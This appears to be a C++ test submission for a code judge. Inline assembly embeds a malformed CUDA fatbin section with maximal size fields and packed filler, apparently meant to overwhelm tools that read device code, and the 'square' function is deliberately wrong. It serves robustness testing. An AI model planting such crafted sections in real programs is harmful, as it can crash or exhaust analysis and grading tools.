// Attack: containers of device code by its own hand, of endless sizes and packed bombs, for those who read its program
// Verdict: wrong_answer
// Stage: program
#include "square_port.hpp"

// Headers as nvcc writes them (magic number, version, size of the header, size of what follows), and entries in them
// whose sizes are the largest that there are, packed from nothing.
asm(R"(
.pushsection .nv_fatbin, "a"
.align 8
.long 0xba55ed50
.short 1, 16
.quad 0xfffffffffffffff0
.long 0xba55ed50
.short 1, 16
.quad 4096
.short 1, 0x101
.long 64
.quad 0xffffffffffffffff
.long 0xffffffff, 0
.long 90, 0
.quad 0
.quad 0x2011
.quad 0, 0x7fffffffffffffff
.fill 4000, 1, 0xff
.long 0xba55ed50
.short 1, 0
.quad 0
.popsection
)");

void square(const std::int64_t* input, std::int64_t* output, std::size_t count) {
    for (std::size_t i = 0; i < count; ++i) output[i] = input[i] * input[i] + 1;
}
